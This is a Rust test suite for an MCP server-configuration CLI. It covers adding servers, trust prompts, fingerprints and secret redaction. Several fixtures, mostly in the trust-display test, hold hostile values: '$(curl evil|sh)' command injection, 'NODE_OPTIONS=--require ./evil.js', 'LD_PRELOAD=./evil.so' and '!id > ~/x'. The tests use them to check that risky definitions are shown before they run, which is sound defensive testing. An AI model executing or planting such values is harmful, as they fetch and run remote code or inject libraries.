//! The command line and a user's files: finding servers, editing files, trusting a project, and showing no secret.

use std::os::unix::fs::PermissionsExt;

use serde_json::{Value, json};

#[path = "cli/support.rs"]
mod support;

use support::{Home, MCPOOL, demo, read, write};

const SECRET: &str = "hunter2-marker";

#[test]
fn a_server_that_was_added_can_be_listed_tested_and_removed() {
    let home = Home::new("add");

    let ran = home.run(&["add", "demo", "--timeout", "9000", "--", MCPOOL, "demo-server"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.starts_with("Added \"demo\" to ~/.config/mcpool/mcp.json: "), "{}", ran.out);
    let written = &read(&home.own())["mcpServers"]["demo"];
    assert_eq!(written, &json!({"command": MCPOOL, "args": ["demo-server"], "timeout": 9000}));
    let mode = std::fs::metadata(home.own()).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let listed = home.run(&["list", "--json"]).json();
    let server = &listed["servers"][0];
    assert_eq!((&server["name"], &server["state"]), (&json!("demo"), &json!("on")));
    assert_eq!(server["source"]["provider"], "mcpool");
    assert_eq!(home.run(&["test", "demo"]).code, 0);
    let again = home.run(&["add", "demo", "--json", "--", "x"]);
    assert_eq!(again.code, 1);
    assert!(again.json()["error"]["message"].as_str().unwrap().contains("already exists"));
    let ran = home.run(&["remove", "demo", "--json"]);
    assert_eq!((ran.code, &ran.json()["removed"]), (0, &json!("demo")));
    assert_eq!(home.run(&["list", "--json"]).json()["servers"], json!([]));
    let ran = home.run(&["remove", "demo"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("\"demo\""), "{}", ran.err);
}

#[test]
fn a_remote_server_is_added_with_its_headers_and_shown_without_them() {
    let home = Home::new("remote");
    let add = ["add", "docs", "--url", "https://me:pw@example.com/mcp", "--header", "X-A: b: c"];
    let ran = home.run(&[&add[..], &["--token", SECRET, "--disabled"]].concat());
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(!ran.all().contains(SECRET) && !ran.all().contains("pw"), "{}", ran.all());
    let written = &read(&home.own())["mcpServers"]["docs"];
    assert_eq!(written["headers"]["Authorization"], format!("Bearer {SECRET}"));
    assert_eq!((&written["headers"]["X-A"], &written["type"]), (&json!("b: c"), &json!("http")));
    assert_eq!(written["enabled"], false);
    for args in [&["list"][..], &["list", "--json"], &["discover"], &["discover", "--json"]] {
        let ran = home.run(args);
        assert_eq!(ran.code, 0, "{}", ran.err);
        assert!(ran.out.contains("docs") && ran.out.contains("example.com"), "{}", ran.out);
        assert!(
            !ran.all().contains(SECRET) && !ran.all().contains(":pw"),
            "{args:?} {}",
            ran.all()
        );
    }
    let ran = home.run(&["add", "sock", "--url", "wss://example.com/mcp"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(read(&home.own())["mcpServers"]["sock"]["type"], "websocket");
}

#[test]
fn words_that_contradict_each_other_are_wrong_usage() {
    let home = Home::new("contradict");
    let url = "https://example.com/mcp";
    let wrong: &[(&[&str], &str)] = &[
        (&["x", "--url", url, "--", "npx"], "Use either --url or -- <command...>, not both."),
        (&["x", "--token", "t", "--", "npx"], "--token requires --url (HTTP/SSE transport)."),
        (&["x"], "Use either --url or -- <command...>."),
        (&["x", "--header", "A: b", "--", "npx"], "--header requires --url"),
        (&["x", "--url", url, "--env", "A=b"], "--env and --cwd are for"),
        (&["x", "--url", url, "--header", "nonsense"], "--header: write"),
        (&["x", "--url", url, "--transport", "stdio"], "requires -- <command...>"),
        (&["x", "--transport", "sse", "--", "npx"], "require --url"),
        (&["x", "--env", "nonsense", "--", "npx"], "--env: write"),
        (&["x", "--scope", "user", "--file", "f.json", "--", "npx"], "cannot be used with"),
        (&["x", "--url", url, "--timeout", "0"], "0 is not in"),
    ];
    for (args, text) in wrong {
        let ran = home.run(&[&["add"], *args].concat());
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{args:?}");
        assert!(ran.err.contains(text), "{args:?}: {}", ran.err);
    }
    assert!(!home.own().exists());
    for (name, text) in [("", "cannot be empty"), ("a b", "may only contain")] {
        let ran = home.run(&["add", name, "--", "npx"]);
        assert_eq!(ran.code, 1);
        assert!(ran.err.contains(text), "{}", ran.err);
    }
}

#[test]
fn a_change_goes_into_the_file_or_scope_that_is_named() {
    let home = Home::new("places");
    let ran = home.run(&["add", "a", "--scope", "project", "--", "npx", "x"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert_eq!(read(&home.project(".mcpool/mcp.json"))["mcpServers"]["a"]["command"], "npx");
    assert!(ran.err.contains("mcpool trust"), "{}", ran.err);
    let ran = home.run(&["add", "b", "-c", "my.toml", "--env", "A=b", "--", "npx"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let text = std::fs::read_to_string(home.project("my.toml")).unwrap();
    assert!(text.starts_with("[mcpServers.b]\n"), "{text}");
    let ran = home.run(&["list", "-c", "my.toml", "--json"]);
    assert_eq!(ran.json()["servers"][0]["name"], "b");
    assert!(!home.own().exists());
    assert_eq!(home.run(&["disable", "b", "-c", "my.toml"]).code, 0);
    let state = |ran: support::Ran| ran.json()["servers"][0]["state"].clone();
    assert_eq!(state(home.run(&["list", "-c", "my.toml", "--json"])), "off");
    assert_eq!(home.run(&["enable", "b", "--file", "my.toml"]).code, 0);
    assert_eq!(state(home.run(&["list", "-c", "my.toml", "--json"])), "on");
    let by_variable = |args: &[&str]| -> support::Ran {
        home.command(args).env("MCPOOL_CONFIG", home.project("my.toml")).output().unwrap().into()
    };
    assert_eq!(by_variable(&["list", "--json"]).json()["servers"][0]["name"], "b");
    assert_eq!(by_variable(&["remove", "b"]).code, 0);
    assert_eq!(by_variable(&["list", "--json"]).json()["servers"], json!([]));
}

#[test]
fn another_products_file_is_never_changed_unasked() {
    let home = Home::new("foreign");
    let cursor = home.home(".cursor/mcp.json");
    write(&cursor, json!({"demo": demo(), "off": {"command": "x", "disabled": true}}));
    let before = std::fs::read(&cursor).unwrap();
    let state = |name: &str| {
        let listed = home.run(&["list", "--json"]).json();
        let servers = listed["servers"].as_array().unwrap().clone();
        let server = servers.into_iter().find(|server| server["name"] == name);
        server.map_or(Value::Null, |server| server["state"].clone())
    };
    assert_eq!(state("demo"), "on");
    let ran = home.run(&["disable", "demo"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.contains("disabledServers"), "{}", ran.out);
    assert_eq!(read(&home.own())["disabledServers"], json!(["demo"]));
    assert_eq!(state("demo"), "off");
    let ran = home.run(&["call", "demo", "now"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("is disabled"), "{}", ran.err);
    assert_eq!(home.run(&["enable", "demo"]).code, 0);
    assert_eq!(state("demo"), "on");
    let ran = home.run(&["remove", "demo"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("~/.cursor/mcp.json") && ran.err.contains("--file"), "{}", ran.err);
    let ran = home.run(&["enable", "off"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("--file"), "{}", ran.err);
    // A list in the project's file does not speak for that product's file.
    let list = home.project(".mcpool/mcp.json");
    std::fs::create_dir_all(list.parent().unwrap()).unwrap();
    std::fs::write(&list, r#"{"disabledServers": ["demo"]}"#).unwrap();
    assert_eq!(home.run(&["enable", "demo"]).code, 0, "nobody has trusted that list");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let error = home.run(&["enable", "demo", "--json"]).json()["error"].clone();
    assert_eq!(error["code"], "SERVER_DISABLED", "{error}");
    assert!(error["hint"].as_str().unwrap().contains("disabledServers"), "{error}");
    std::fs::remove_file(list).unwrap();
    assert_eq!(std::fs::read(&cursor).unwrap(), before);
    assert_eq!(home.run(&["remove", "demo", "--file", cursor.to_str().unwrap()]).code, 0);
    assert_eq!(state("demo"), Value::Null);
    let ran = home.run(&["disable", "of"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("did you mean \"off\"?"), "{}", ran.err);
}

#[test]
fn enabling_undoes_what_disabling_did_wherever_the_server_is() {
    let home = Home::new("enable");
    let both = json!({"mcpServers": {"a": demo()}, "disabledServers": ["a", "b"]});
    std::fs::create_dir_all(home.own().parent().unwrap()).unwrap();
    std::fs::write(home.own(), both.to_string()).unwrap();
    write(&home.project(".mcpool/mcp.json"), json!({"b": {"command": "x", "enabled": false}}));
    for name in ["a", "b"] {
        let ran = home.run(&["enable", name]);
        assert_eq!(ran.code, 0, "{}", ran.err);
    }
    let listed = home.run(&["list", "--json"]).json();
    let states: Vec<&Value> =
        listed["servers"].as_array().unwrap().iter().map(|server| &server["state"]).collect();
    assert!(states.len() == 2 && !states.contains(&&json!("off")), "{listed}");
}

#[test]
fn discover_says_which_file_won_and_why() {
    let home = Home::new("discover");
    write(&home.own(), json!({"a": demo()}));
    write(&home.home(".cursor/mcp.json"), json!({"a": {"command": "x"}, "b": demo()}));
    write(&home.project(".cursor/mcp.json"), json!({"b": {"url": "https://example.com/mcp"}}));
    std::fs::create_dir_all(home.home(".gemini")).unwrap();
    std::fs::write(home.home(".gemini/settings.json"), "{\n \"mcpServers\": oops\n}").unwrap();
    let untrusted = home.run(&["discover", "--json"]).json();
    let users = json!({"name": "b", "source": {"provider": "cursor", "level": "user",
        "path": home.home(".cursor/mcp.json")}});
    assert_eq!(untrusted["blocked"][0]["servers"], json!([users]), "{untrusted}");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let ran = home.run(&["discover"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    for text in ["~/.cursor/mcp.json", "Shadowed", "mcpool comes before cursor", "project's file"] {
        assert!(ran.out.contains(text), "{text} is missing in {}", ran.out);
    }
    assert!(ran.all().contains("settings.json"), "{}", ran.all());
    assert!(!ran.out.contains('\x1b'));
    let report = home.run(&["discover", "--json"]).json();
    let of = |name: &str| {
        let servers = report["servers"].as_array().unwrap();
        servers.iter().find(|server| server["name"] == name).unwrap().clone()
    };
    let paths = |name: &str| {
        let shadows = of(name)["shadows"].as_array().unwrap().clone();
        let shadowed = shadows.into_iter().map(|shadow| shadow["path"].clone());
        (of(name)["source"]["path"].clone(), shadowed.collect::<Vec<_>>())
    };
    let cursor = json!(home.home(".cursor/mcp.json"));
    assert_eq!(paths("a"), (json!(home.own()), vec![cursor.clone()]));
    assert_eq!(paths("b"), (json!(home.project(".cursor/mcp.json")), vec![cursor]));
    let ran = home.run(&["discover", "--no-project", "--provider", "cursor"]);
    assert!(!ran.out.contains("example.com"), "{}", ran.out);
    let ran = home.run(&["list", "--project", "no/such/place"]);
    assert_eq!(ran.code, 1);
    assert!(ran.err.contains("not a directory"), "{}", ran.err);
}

#[test]
fn a_projects_program_starts_only_when_its_file_is_trusted() {
    let home = Home::new("trust");
    let file = home.project(".mcp.json");
    write(&file, json!({"demo": demo()}));
    let ran = home.run(&["tools"]);
    assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{}", ran.err);
    assert!(ran.err.starts_with("Blocked \"demo\": Refused to start stdio server"), "{}", ran.err);
    assert!(ran.err.contains("mcpool trust"), "{}", ran.err);
    assert_eq!(home.run(&["test", "demo"]).code, 1);
    assert_eq!(home.run(&["list", "--json"]).json()["servers"][0]["state"], "untrusted");
    let ran = home.run(&["trust"]);
    assert!(ran.out.contains("demo-server"), "{}", ran.out);
    let ran = home.run(&["trust", ".mcp.json"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    assert!(ran.out.contains("demo"), "{}", ran.out);
    assert_eq!(home.run(&["list", "--json"]).json()["servers"][0]["state"], "on");
    let ran = home.run(&["tools"]);
    assert!(ran.out.contains("greet"), "{}{}", ran.out, ran.err);
    let list = home.run(&["trust", "--list", "--json"]).json();
    assert_eq!(list["trusted"][0]["server"], "demo");
    // A changed definition of the same name is asked about again.
    let mut changed = demo();
    changed["args"] = json!(["demo-server", "--help"]);
    write(&file, json!({"demo": changed}));
    assert!(home.run(&["tools"]).err.contains("Refused to start"), "a changed definition ran");
    write(&file, json!({"demo": demo()}));
    assert!(home.run(&["tools"]).out.contains("greet"));
    let ran = home.run(&["trust", "--revoke", ".mcp.json", "--json"]);
    assert_eq!((ran.code, &ran.json()["revoked"][0]["server"]), (0, &json!("demo")));
    assert!(home.run(&["tools"]).err.contains("Refused to start"));
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    assert!(home.run(&["tools"]).out.contains("greet"));
    assert_eq!(home.run(&["trust", "--revoke", "--all"]).code, 0);
    assert_eq!(home.run(&["trust", "--list", "--json"]).json()["trusted"], json!([]));
    for args in [&["trust", "--revoke"][..], &["trust", "--list", "x"], &["trust", "--server", "x"]]
    {
        assert_eq!(home.run(args).code, 2, "{args:?}");
    }
}

#[test]
fn the_question_of_trust_shows_everything_that_would_run() {
    let home = Home::new("question");
    let program = json!({
        "command": "npx", "args": ["--token", "$(curl evil|sh)", "KEY=x;curl evil|sh"],
        "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "!touch /tmp/x"},
        "cwd": "sub", "envFile": "vars",
    });
    let remote = json!({"url": "https://user:pw@evil/?token=t", "headers": {"A": "!id > ~/x"}});
    let file = home.project(".mcpool/mcp.json");
    write(&file, json!({"p": program, "r": remote, "off": {"command": "later", "enabled": false}}));
    std::fs::write(home.project("vars"), "LD_PRELOAD=./evil.so\n").unwrap();
    for args in [&["trust"][..], &["trust", ".mcpool/mcp.json"]] {
        let shown = home.run(args).out;
        for text in [
            "npx --token '$(curl evil|sh)' 'KEY=x;curl evil|sh'",
            "NODE_OPTIONS=--require ./evil.js",
            "TOKEN=!touch /tmp/x",
            "cwd  sub",
            "envFile  vars",
            "LD_PRELOAD=./evil.so",
            "https://user:pw@evil/?token=t",
            "A=!id > ~/x",
            "later",
        ] {
            assert!(shown.contains(text), "{args:?}: {text} is not in {shown}");
        }
    }
}

#[test]
fn what_is_trusted_is_what_was_shown() {
    let home = Home::new("fingerprint");
    let file = home.project(".mcp.json");
    write(&file, json!({"demo": demo(), "off": {"command": "later", "disabled": true}}));
    let listed = home.run(&["trust", "--json"]).json()["untrusted"].clone();
    let fingerprints: Vec<&str> =
        listed.as_array().unwrap().iter().map(|it| it["fingerprint"].as_str().unwrap()).collect();
    let mut changed = demo();
    changed["env"] = json!({"NODE_OPTIONS": "--require ./evil.js"});
    write(&file, json!({"demo": changed}));
    let ran = home.run(&["trust", ".mcp.json", "--fingerprint", fingerprints[0]]);
    assert_eq!((ran.code, ran.err.contains("has changed")), (1, true), "{}", ran.err);
    assert_eq!(home.run(&["trust", "--list", "--json"]).json()["trusted"], json!([]));
    write(&file, json!({"demo": demo()}));
    assert_eq!(home.run(&["trust", ".mcp.json", "--fingerprint", fingerprints[0]]).code, 0);
    assert!(home.run(&["tools"]).out.contains("greet"));
    // Everything that --all trusts was listed before.
    write(&file, json!({"demo": demo(), "off": {"command": "later", "disabled": true}}));
    let all = home.run(&["trust", "--all", "--json"]).json()["trusted"].clone();
    for one in all.as_array().unwrap() {
        assert!(fingerprints.contains(&one["fingerprint"].as_str().unwrap()), "{one}");
    }
}

#[test]
fn a_changed_file_that_a_definition_brings_is_asked_about_again() {
    let home = Home::new("brings");
    let runner = json!({"type": "stdio", "command": "${RUNNER}", "args": ["demo-server"]});
    write(&home.project(".ai-agent.json"), json!({"a": runner}));
    let mut with_file = demo();
    with_file["envFile"] = json!("vars");
    write(&home.project(".mcp.json"), json!({"b": with_file}));
    let variables = |text: &str| std::fs::write(home.project(".ai-agent.env"), text).unwrap();
    let env_file = |text: &str| std::fs::write(home.project("vars"), text).unwrap();
    variables(&format!("RUNNER={MCPOOL}\n"));
    env_file("A=1\n");
    assert_eq!(home.run(&["trust", "--all"]).code, 0);
    let states = || {
        let listed = home.run(&["list", "--json"]).json();
        let servers = listed["servers"].as_array().unwrap().iter();
        servers.map(|it| it["state"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(states(), ["on", "on"]);
    assert!(home.run(&["tools"]).out.contains("greet"));
    variables("RUNNER=/bin/false\n");
    assert_eq!(states(), ["untrusted", "on"]);
    env_file("LD_PRELOAD=./evil.so\n");
    assert_eq!(states(), ["untrusted", "untrusted"]);
    variables(&format!("RUNNER={MCPOOL}\n"));
    env_file("A=1\n");
    assert_eq!(states(), ["on", "on"]);
}

#[test]
fn the_schema_is_one_document_either_way() {
    let home = Home::new("schema");
    let schema = home.run(&["schema"]).json();
    assert!(schema["$schema"].is_string() && schema["properties"]["mcpServers"].is_object());
    assert_eq!(home.run(&["schema", "--json"]).json(), schema);
}

#[test]
fn no_command_shows_a_secret() {
    let home = Home::new("secrets");
    let server = json!({
        "command": "no-such-program", "args": ["--api-key", SECRET, format!("--token={SECRET}")],
        "env": {"API_KEY": SECRET},
    });
    let url = format!("http://user:{SECRET}@127.0.0.1:1/mcp?api_key={SECRET}");
    let remote = json!({"url": url, "headers": {"Authorization": format!("Bearer {SECRET}")}});
    let bad = json!({"command": "x", "url": url, "env": {"K": SECRET}});
    write(&home.own(), json!({"s": server.clone(), "r": remote, "bad": bad}));
    write(&home.project(".mcp.json"), json!({"p": server}));
    std::fs::write(home.project("broken.json"), format!("{{\"a\": \"{SECRET}\" oops}}")).unwrap();
    let commands: &[&[&str]] = &[
        &["list"],
        &["status"],
        &["tools"],
        &["discover"],
        &["doctor"],
        &["trust", "--list"],
        &["test", "s"],
        &["test", "r"],
        &["test", "bad"],
        &["call", "s", "x"],
        &["list", "-c", "broken.json"],
        &["add", "s", "--token", SECRET, "--url", "https://x.example"],
        &["disable", "s"],
        &["enable", "s"],
    ];
    for command in commands {
        for json in [&[][..], &["--json"]] {
            let ran = home.run(&[command, json].concat());
            assert!(!ran.all().contains(SECRET), "{command:?} {json:?}: {}", ran.all());
            if !json.is_empty() {
                ran.json();
            }
        }
    }
}

#[test]
fn the_next_step_after_adding_to_a_named_file_names_it() {
    let home = Home::new("add-next");
    let ran = home.run(&["add", "demo", "-c", "mine.json", "--", MCPOOL, "demo-server"]);
    assert!(ran.err.contains("mcpool test demo --config mine.json"), "{}", ran.err);
    assert_eq!(home.run(&["test", "demo", "--config", "mine.json"]).code, 0);
}

#[cfg(target_os = "linux")]
#[test]
fn an_argument_that_is_no_text_is_refused_and_written_nowhere() {
    use std::os::unix::ffi::OsStrExt;
    let home = Home::new("add-no-text");
    let mut add = home.command(&["add", "demo", "--"]);
    let ran = add.arg(std::ffi::OsStr::from_bytes(b"a\xffb")).output().unwrap();
    assert_eq!(ran.status.code(), Some(2));
    assert!(!home.own().exists());
}
